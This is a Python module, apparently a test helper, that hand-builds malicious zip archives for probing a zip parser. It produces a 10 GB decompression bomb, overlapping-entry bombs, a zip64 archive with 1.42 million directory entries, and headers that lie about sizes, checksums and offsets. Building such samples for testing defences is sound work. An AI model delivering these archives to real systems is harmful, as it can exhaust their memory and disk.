"""Zip archives made to harm who opens them, written header by header, as no zip library would write them."""

from __future__ import annotations

import struct
import zlib
from typing import NamedTuple

LOCAL, CENTRAL, END = struct.Struct("<4s5H3L2H"), struct.Struct("<4s6H3L5H2L"), struct.Struct("<4s4H2LH")
END64, LOCATOR = struct.Struct("<4sQ2H2L4Q"), struct.Struct("<4sLQL")


class Entry(NamedTuple):
    """What its headers say of an entry; None: the truth."""

    name: bytes
    packed: bytes
    method: int = 0
    size: int | None = None
    stated: int | None = None
    """Size of ``packed``, as the headers have it."""
    offset: int | None = None
    flags: int = 0
    mode: int = 0o100644
    extra: bytes = b""
    crc: int | None = None


def archive(entries: list[Entry], count: int | None = None, comment: bytes = b"") -> bytes:
    """A zip of ``entries``, of which its end says that they are ``count``."""
    body, directory = bytearray(), bytearray()
    for entry in entries:
        size = len(entry.packed) if entry.size is None else entry.size
        stated = len(entry.packed) if entry.stated is None else entry.stated
        crc = zlib.crc32(entry.packed) if entry.crc is None else entry.crc
        offset = len(body) if entry.offset is None else entry.offset
        shared = (entry.flags, entry.method, 0, 33, crc, stated, size, len(entry.name), len(entry.extra))
        directory += CENTRAL.pack(b"PK\1\2", 0x314, 20, *shared, 0, 0, 0, entry.mode << 16, offset)
        directory += entry.name + entry.extra
        if entry.offset is None:
            body += LOCAL.pack(b"PK\3\4", 20, *shared) + entry.name + entry.extra + entry.packed
    number = len(entries) if count is None else count
    end = END.pack(b"PK\5\6", 0, 0, number, number, len(directory), len(body), len(comment))
    return bytes(body + directory + end + comment)


def crowd(entries: int = 1_420_000) -> bytes:
    """Directory entries alone, 47 bytes each: 66.7 MB for 1.42 million, which zip64 alone can count."""
    one = CENTRAL.pack(b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    return zip64(one * entries, entries)


def zip64(directory: bytes, entries: int, *, size: int | None = None, offset: int = 0) -> bytes:
    """``directory`` under an end that leaves count, size and place to the record before it."""
    long = len(directory) if size is None else size
    record = END64.pack(b"PK\6\6", END64.size - 12, 45, 45, 0, 0, entries, entries, long, offset)
    locator = LOCATOR.pack(b"PK\6\7", 0, len(directory), 1)
    end = END.pack(b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return directory + record + locator + end


def inflating(size: int = 10 << 30) -> bytes:
    """Deflated zeros that unpack to ``size`` bytes, a thousandth of it long."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * ((size >> 20) - 1) + packer.flush()


def overlapping(entries: int = 300, size: int = 1 << 20) -> bytes:
    """One stored member of ``size`` bytes, to which all directory entries point."""
    name = b"rules/a.yml"
    data = bytes(size)
    first = Entry(name, data)
    more = [Entry(b"rules/%d.yml" % number, data, offset=0) for number in range(entries)]
    return archive([first, *more])
